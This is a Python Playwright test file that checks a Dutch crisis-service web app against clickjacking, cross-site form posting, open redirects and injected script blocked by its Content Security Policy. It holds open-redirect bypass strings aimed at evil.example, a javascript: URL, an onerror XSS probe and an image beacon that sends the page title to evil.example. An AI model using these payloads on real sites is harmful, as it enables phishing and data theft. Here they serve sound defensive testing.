"""The page of an attacker in a browser that is logged in: it can frame nothing, send nothing, lead nowhere else and run nothing."""

import re
from typing import Final
from urllib.parse import quote

import pytest
from playwright.async_api import Browser, Page, Route, expect

from tests.browser.conftest import Country

pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="session")]

# Another site: for a browser each address of loopback is one of its own
_EVIL: Final = "http://127.0.0.2:8999/"
_ELSEWHERE: Final = (
    "//evil.example",
    "///evil.example",
    "https:evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/\t/evil.example",
    "/\n/evil.example",
    "javascript:document.write(1)",
    "/.//evil.example",
    "/%2f/evil.example",
    "/%5cevil.example",
    "/@evil.example",
    "/%09/evil.example",
)


async def _attacked(country: Country, chromium: Browser, body: str) -> Page:
    """Log a worker in, and open the attacker's page in the same browser."""
    page = await country.open(chromium, "Crisisdienst")

    async def answer(route: Route) -> None:
        await route.fulfill(body=f"<!doctype html><title>evil</title>{body}", content_type="text/html")

    await page.context.route(f"{_EVIL}**", answer)
    await page.goto(_EVIL)
    return page


async def test_no_page_is_shown_in_a_frame(country: Country, chromium: Browser) -> None:
    """A page in a frame of another site is refused by the browser, logged in or not (clickjacking)."""
    for path in ("/", "/tonight", "/find", "/login", "/published"):
        page = await _attacked(country, chromium, f'<iframe src="{country.pages}{path}"></iframe>')
        await page.wait_for_load_state("networkidle")
        (frame,) = page.frames[1:]
        assert (frame.url, "Plek" in await frame.content()) == ("chrome-error://chromewebdata/", False)
        country.forgive("frame", _EVIL)


async def test_a_form_of_another_site_sends_nothing_and_leaves_nothing(country: Country, chromium: Browser) -> None:
    """A form that the attacker's page sends by itself is refused, and the next log-in offers nothing that the person did not type."""
    fields = "".join(
        f'<input name="{name}" value="{value}">' for name, value in {"adults": 7, "reason": "other", "accommodation": "hotel"}.items()
    )
    page = await _attacked(country, chromium, f'<form method="post" action="{country.pages}/hotel">{fields}<button>x</button></form>')
    await page.click("button")
    await expect(page.locator("h1")).to_have_text("Dit formulier kwam van een andere site. Er is niets verstuurd.")
    await page.goto(f"{country.pages}/login")
    await page.click("button:has-text('Crisisdienst')")
    await expect(page.locator("h1")).to_have_text("Vannacht")
    await expect(page.locator("main")).not_to_contain_text("7 volwassenen")
    country.forgive(_EVIL, "status of 403")


async def test_no_address_leads_away(country: Country, chromium: Browser) -> None:
    """By the browser's own reading of an address, the choice of a language and the log-in stay on the pages (open redirect)."""
    page = await country.open(chromium)
    for to in _ELSEWHERE:
        await page.goto(f"{country.pages}/language/nl?to={quote(to)}")
        assert page.url.startswith(f"{country.pages}/"), (to, page.url)
    for to in _ELSEWHERE[:4]:
        await page.goto(f"{country.pages}/login?to={quote(to)}")
        await page.click("button:has-text('Crisisdienst')")
        await expect(page).not_to_have_title(re.compile("Ingelogd|Wie bent u"))
        assert page.url.startswith(f"{country.pages}/"), (to, page.url)
    country.forgive("status of 404")


async def test_no_script_runs_that_is_not_a_file_of_the_pages(country: Country, chromium: Browser) -> None:
    """Were markup to reach a page all the same, neither its script, nor its style, nor a picture of elsewhere would do anything."""
    page = await country.open(chromium, "Crisisdienst")
    await page.evaluate("""() => {
        const script = document.createElement('script'); script.textContent = 'window.hit = 1'; document.body.append(script);
        const link = document.createElement('div'); link.innerHTML = '<img src=x onerror="window.hit = 2">'; document.body.append(link);
        const picture = new Image(); picture.src = 'https://evil.example/?' + document.title; document.body.append(picture);
        const base = document.createElement('base'); base.href = 'https://evil.example/'; document.head.append(base);
    }""")
    await page.wait_for_load_state("networkidle")
    assert await page.evaluate("[window.hit === undefined, document.baseURI]") == [True, page.url]
    assert sum("Content Security Policy" in line for line in country.refused) >= 3, country.refused
    country.forgive("Content Security Policy", "status of 404", "ERR_BLOCKED_BY_CSP", "elsewhere: https://evil.example")
